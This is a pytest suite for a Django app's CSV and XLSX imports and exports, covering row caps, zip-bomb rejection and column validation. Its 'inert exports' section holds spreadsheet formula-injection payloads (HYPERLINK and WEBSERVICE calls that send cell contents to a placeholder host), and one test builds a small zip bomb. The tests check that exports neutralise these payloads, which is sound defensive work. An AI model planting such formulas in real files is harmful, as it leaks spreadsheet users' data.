"""Imports that never lose or invent a row, exports that are inert, import pages anyone can use."""

import csv
import datetime
import io
import os
import tempfile
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from interurps.formats import XLSX, FrenchCSV, ImportFileError
from interurps.import_registry import import_kind_for_list, import_kinds
from interurps.import_storage import pending_dir
from interurps.models import Meeting, MeetingCategory, Organisation, Person
from interurps.resources.meetings import MeetingResource
from tests.cpts.factories import CPTSFactory
from tests.factories import (
    DepartmentFactory,
    MeetingFactory,
    OrganisationFactory,
    PersonFactory,
    StaffUserFactory,
    programme,
)

pytestmark = pytest.mark.django_db

HEADER = "date;intitulé;programmes"


@pytest.fixture(autouse=True)
def tmp_storage_in_tmp_path(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))


@pytest.fixture
def region(db):
    DepartmentFactory(code="44")
    OrganisationFactory(name="ARS Pays de la Loire", acronym="ARS", kind=Organisation.Kind.ARS)
    return StaffUserFactory(username="emartin", first_name="Élodie", last_name="Martin")


def csv_upload(text, name="reunions.csv"):
    return SimpleUploadedFile(name, text.encode("utf-8"))


def preview(client, kind, file):
    return client.post(reverse("interurps:import", args=[kind]), {"file": file})


def confirm(client, kind, response):
    return client.post(reverse("interurps:import_confirm", args=[kind]), {"token": response.context["token"]})


def import_meetings(text):
    return MeetingResource().import_data(FrenchCSV().create_dataset(text.encode("utf-8")))


def row_messages(result):
    return {row.number: " ".join(row.error.messages) for row in result.invalid_rows}


def xlsx_bytes(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- the registry ----------------------------------------------------------------------------


def test_every_app_registers_its_import_kinds():
    keys = {kind.key for kind in import_kinds()}
    assert {"personnes", "organisations", "reunions", "communes", "cpts", "indicateurs-sas"} <= keys
    assert {"reper-chiffres", "pacte-apprenants", "pacte-presences"} <= keys


def test_the_meeting_list_has_its_import_kind():
    assert import_kind_for_list("interurps:meeting_list").key == "reunions"


@pytest.mark.parametrize("module", ["import_registry.py", "import_kinds.py", "views/imports.py", "import_storage.py"])
def test_the_core_import_modules_name_no_programme_app(module):
    source = (Path(django_settings.BASE_DIR) / "interurps" / module).read_text()
    for app in ("cpts.", "sas.", "reper.", "pacte.", '"cpts"', '"sas"', '"reper"', '"pacte"'):
        assert app not in source


# --- caps, before parsing --------------------------------------------------------------------


def test_a_csv_over_the_row_cap_is_refused_in_french(settings):
    settings.IMPORT_MAX_ROWS = 3
    text = HEADER + "\n" + "12/03/2021;Réunion;cpts\n" * 4
    with pytest.raises(ImportFileError, match="plus de 3 lignes : 3 lignes au plus par import"):
        FrenchCSV().create_dataset(text.encode())


def test_a_csv_at_the_row_cap_is_read(settings):
    settings.IMPORT_MAX_ROWS = 3
    text = HEADER + "\n" + "12/03/2021;Réunion;cpts\n" * 3
    assert len(FrenchCSV().create_dataset(text.encode())) == 3


def test_a_file_over_the_size_cap_is_refused_in_french(settings):
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(ImportFileError, match="trop volumineux"):
        FrenchCSV().create_dataset((HEADER + "\n" + "x" * 200).encode())


def test_an_xlsx_over_the_row_cap_is_refused(settings):
    settings.IMPORT_MAX_ROWS = 2
    data = xlsx_bytes([["date", "intitulé"], *[["12/03/2021", "R"]] * 3])
    with pytest.raises(ImportFileError, match="plus de 2 lignes"):
        XLSX().create_dataset(data)


def test_a_zip_bomb_is_refused_from_its_directory_before_openpyxl_opens_it(settings, monkeypatch):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (5 * 1024 * 1024))  # 5 MB, a few kB compressed
    assert len(buffer.getvalue()) < 100_000

    def fail(*args, **kwargs):
        raise AssertionError("openpyxl must not open the file")

    monkeypatch.setattr(openpyxl, "load_workbook", fail)
    with pytest.raises(ImportFileError, match="une fois décompressé, est trop volumineux"):
        XLSX().create_dataset(buffer.getvalue())


def test_the_staff_page_refuses_a_file_over_the_row_cap(staff_client, region, settings):
    settings.IMPORT_MAX_ROWS = 2
    response = preview(staff_client, "reunions", csv_upload(HEADER + "\n" + "12/03/2021;R;cpts\n" * 3))
    assert "plus de 2 lignes" in response.content.decode()
    assert Meeting.objects.count() == 0


def test_the_admin_import_refuses_a_file_over_the_row_cap(admin_client_, region, settings):
    settings.IMPORT_MAX_ROWS = 2
    response = admin_client_.post(
        reverse("admin:interurps_meeting_import"),
        {"format": "0", "resource": "0", "import_file": csv_upload(HEADER + "\n" + "12/03/2021;R;cpts\n" * 3)},
    )
    assert "plus de 2 lignes" in response.content.decode()


def test_sqlite_runs_in_wal_with_immediate_transactions_and_a_busy_timeout():
    database = django_settings.DATABASES["default"]
    if database["ENGINE"] != "django.db.backends.sqlite3":
        pytest.skip("SQLite only")
    assert database["OPTIONS"]["transaction_mode"] == "IMMEDIATE"
    assert database["OPTIONS"]["timeout"] == 20
    assert "journal_mode=WAL" in database["OPTIONS"]["init_command"]


# --- unknown columns and duplicate rows --------------------------------------------------------


def test_an_unknown_meeting_column_is_named_and_blocks_the_import(staff_client, region):
    text = "date;intitulé;programmes;remarques\n12/03/2021;R;cpts;x\n"
    response = preview(staff_client, "reunions", csv_upload(text))
    content = response.content.decode()
    assert "Colonne inconnue : « remarques »" in content
    assert "Confirmer l'import" not in content


def test_a_misnamed_cpts_territory_column_is_named_with_the_closest_known_one(staff_client, region):
    text = "nom;département;codes INSEE;code INSEE des communes\nCPTS Test;44;44109;44109\n"
    response = preview(staff_client, "cpts", csv_upload(text, "cpts.csv"))
    content = response.content.decode()
    assert "Colonne inconnue : « code INSEE des communes »" in content
    assert "Confirmer l'import" not in content


def test_two_meetings_with_the_same_date_and_title_and_no_start_time_are_an_error_on_both_rows(region):
    result = import_meetings(HEADER + "\n12/03/2021;Quintet;cpts\n12/03/2021;quintet;cpts\n")
    messages = row_messages(result)
    assert "ligne 3 désignent la même réunion" in messages[1]
    assert "ligne 2 désignent la même réunion" in messages[2]
    assert Meeting.objects.count() == 0


def test_two_meetings_at_different_start_times_are_two_meetings(region):
    text = "date;heure de début;intitulé;programmes\n12/03/2021;09:00;Quintet;cpts\n12/03/2021;14:00;Quintet;cpts\n"
    result = import_meetings(text)
    assert not result.has_validation_errors()
    assert Meeting.objects.count() == 2


def test_the_preview_puts_refused_rows_first_and_the_banner_names_them(staff_client, region):
    text = HEADER + "\n12/03/2021;A;cpts\n12/03/2021;B;inconnu\n13/03/2021;C;cpts\n"
    response = preview(staff_client, "reunions", csv_upload(text))
    rows = response.context["preview"]["rows"]
    assert [row["number"] for row in rows] == [3, 2, 4]
    assert "Programme inconnu : « inconnu »" in rows[0]["errors"][0]
    assert "1 ligne sur 3 refusée (ligne 3)" in " ".join(response.content.decode().split())


# --- the meeting import carries end date and people present -----------------------------------


def test_meeting_end_date_and_people_present_are_imported(region):
    PersonFactory(first_name="Hélène", last_name="Durand", email="helene@example.org")
    text = (
        "date;date de fin;intitulé;programmes;personnes présentes\n12/03/2021;13/03/2021;Séminaire;cpts;hélène DURAND\n"
    )
    result = import_meetings(text)
    assert not result.has_validation_errors()
    meeting = Meeting.objects.get()
    assert meeting.end_date == datetime.date(2021, 3, 13)
    assert [person.email for person in meeting.people.all()] == ["helene@example.org"]


def test_meeting_export_reads_back_with_end_date_and_people(region):
    helene = PersonFactory(first_name="Hélène", last_name="Durand")
    meeting = MeetingFactory(title="Séminaire", end_date=datetime.date(2021, 3, 13), staff=[region])
    meeting.people.add(helene)
    content = FrenchCSV().export_data(MeetingResource().export(Meeting.objects.all()))
    Meeting.objects.all().delete()
    result = MeetingResource().import_data(FrenchCSV().create_dataset(content))
    assert not result.has_validation_errors(), result.invalid_rows
    meeting = Meeting.objects.get()
    assert (meeting.end_date, list(meeting.people.all()), list(meeting.staff.all())) == (
        datetime.date(2021, 3, 13),
        [helene],
        [region],
    )


# --- abandoned previews ------------------------------------------------------------------------


def test_abandoned_previews_are_deleted_by_the_command(tmp_path):
    old = Path(pending_dir()) / "old.upload"
    recent = Path(pending_dir()) / "recent.upload"
    for path in (old, recent):
        path.write_bytes(b"x")
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(old, (two_days_ago, two_days_ago))
    out = io.StringIO()
    call_command("cleanup_imports", stdout=out)
    assert (old.exists(), recent.exists()) == (False, True)
    assert "1 fichier(s) d'import abandonné(s) supprimé(s)" in out.getvalue()


def test_each_import_deletes_abandoned_previews(staff_client, region):
    old = Path(pending_dir()) / "old.upload"
    old.write_bytes(b"x")
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(old, (two_days_ago, two_days_ago))
    preview(staff_client, "reunions", csv_upload(HEADER + "\n12/03/2021;A;cpts\n"))
    assert not old.exists()


# --- names matched leniently, with suggestions -------------------------------------------------


def test_category_names_match_ignoring_accents_ellipses_and_typographic_apostrophes(region):
    MeetingCategory.objects.create(programme=programme("cpts"), name="ADOPS…", code="test_adops")
    MeetingCategory.objects.create(programme=programme("cpts"), name="Réunion de l’ARS", code="test_ars")
    text = "date;intitulé;programmes;catégorie\n12/03/2021;A;cpts;adops...\n12/03/2021;B;cpts;reunion de l'ARS\n"
    result = import_meetings(text)
    assert not result.has_validation_errors(), row_messages(result)
    assert sorted(Meeting.objects.values_list("category__code", flat=True)) == ["test_adops", "test_ars"]


def test_a_team_member_is_found_whatever_the_case_of_an_accented_letter(region):
    result = import_meetings("date;intitulé;programmes;équipe\n12/03/2021;A;cpts;ÉLODIE MARTIN\n")
    assert not result.has_validation_errors(), row_messages(result)
    assert list(Meeting.objects.get().staff.all()) == [region]


def test_an_unknown_category_suggests_the_closest_allowed_ones(region):
    MeetingCategory.objects.create(programme=programme("cpts"), name="Comité de pilotage", code="copil_test")
    result = import_meetings("date;intitulé;programmes;catégorie\n12/03/2021;A;cpts;Comite de pilottage\n")
    assert "Vouliez-vous dire « Comité de pilotage » ?" in row_messages(result)[1]


def test_an_unknown_organisation_suggests_the_closest_one(region):
    result = import_meetings("date;intitulé;programmes;organisations\n12/03/2021;A;cpts;ARS Pays de Loire\n")
    assert "Vouliez-vous dire « ARS Pays de la Loire » ?" in row_messages(result)[1]


# --- the import page: model file and columns ---------------------------------------------------


def test_the_import_page_lists_columns_with_format_and_allowed_values_from_the_database(staff_client, region):
    MeetingCategory.objects.create(programme=programme("cpts"), name="Catégorie du test", code="test_cat")
    content = staff_client.get(reverse("interurps:import", args=["reunions"])).content.decode()
    assert "<code>date de fin</code>" in content
    assert "date jj/mm/aaaa" in content
    assert "Catégorie du test (CPTS)" in content
    assert "?modele=xlsx" in content


def test_the_model_csv_has_the_columns_and_an_example_from_the_configured_region(staff_client, settings):
    settings.REGION_DEPARTMENTS = ["29", "35"]
    DepartmentFactory(code="35", name="Ille-et-Vilaine")
    DepartmentFactory(code="44")
    response = staff_client.get(reverse("interurps:import", args=["reunions"]), {"modele": "csv"})
    dataset = FrenchCSV().create_dataset(response.content)
    example = dict(zip(dataset.headers, dataset[0], strict=True))
    assert "personnes présentes" in dataset.headers
    assert example["département"] == "35"
    assert example["date"] == "12/03/2021"


def test_the_model_xlsx_reads_back_as_a_valid_import(staff_client, region):
    response = staff_client.get(reverse("interurps:import", args=["reunions"]), {"modele": "xlsx"})
    assert response["Content-Disposition"] == 'attachment; filename="modele-import-reunions.xlsx"'
    result = MeetingResource().import_data(XLSX().create_dataset(response.content), dry_run=True)
    assert not result.has_validation_errors(), row_messages(result)


# --- inert exports -----------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")'
WEBSERVICE = '=WEBSERVICE("https://exemple.invalid/"&B2)'


def test_csv_export_prefixes_every_formula_trigger():
    rows = ["=1+1", "+33 2 40", "-2", "@SUM(A1)", "\tx", "\rx", "ok"]
    export = tablib.Dataset(*[[value] for value in rows], headers=["a"])
    text = FrenchCSV().export_data(export).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
    assert cells == ["'=1+1", "'+33 2 40", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok"]


def test_meeting_list_exports_formula_titles_as_strings_never_formulas(staff_client, staff_user, region):
    MeetingFactory(title=HYPERLINK, staff=[staff_user])
    MeetingFactory(title=WEBSERVICE, staff=[staff_user])
    response = staff_client.get(reverse("interurps:meeting_list"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    titles = [cell for cell in sheet["E"][1:]]
    assert sorted(cell.value for cell in titles) == sorted([HYPERLINK, WEBSERVICE])
    assert {cell.data_type for cell in titles} == {"s"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_meeting_list_csv_export_neutralises_formula_titles(staff_client, staff_user, region):
    MeetingFactory(title=HYPERLINK, staff=[staff_user])
    content = staff_client.get(reverse("interurps:meeting_list"), {"export": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in content
    assert ';"=HYPERLINK' not in content and ";=HYPERLINK" not in content


def test_admin_xlsx_export_writes_strings_never_formulas(admin_client_, region):
    MeetingFactory(title=WEBSERVICE)
    fields = list(MeetingResource.fields)
    data = {"format": "1", "resource": "0", **{f"meetingresource_{name}": "on" for name in fields}}
    response = admin_client_.post(reverse("admin:interurps_meeting_export"), data)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == WEBSERVICE]
    assert [cell.data_type for cell in cells] == ["s"]


def test_cpts_list_export_neutralises_a_formula_name(staff_client, region):
    CPTSFactory(name="=WEBSERVICE(1)")
    response = staff_client.get(reverse("cpts:cpts_list"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=WEBSERVICE(1)"]
    assert [cell.data_type for cell in cells] == ["s"]


def test_a_tab_prefixed_formula_imported_is_exported_neutralised(region):
    result = import_meetings(HEADER + '\n12/03/2021;"\t=HYPERLINK(""x"")";cpts\n')
    assert not result.has_validation_errors()
    content = FrenchCSV().export_data(MeetingResource().export(Meeting.objects.all())).decode("utf-8-sig")
    line = content.split("\r\n")[1]
    assert "'=HYPERLINK(" in line
    assert ";=HYPERLINK" not in line


def test_an_exported_neutralised_title_reads_back_as_it_was(region):
    MeetingFactory(title="=1+1")
    content = FrenchCSV().export_data(MeetingResource().export(Meeting.objects.all()))
    result = MeetingResource().import_data(FrenchCSV().create_dataset(content))
    assert result.totals["skip"] == 1
    assert Meeting.objects.get().title == "=1+1"


def test_people_export_neutralises_a_formula_in_a_name(staff_client, region):
    Person.objects.create(first_name="@SUM(1)", last_name="Test")
    content = staff_client.get(reverse("interurps:person_list"), {"export": "csv"}).content.decode("utf-8-sig")
    assert "'@SUM(1)" in content
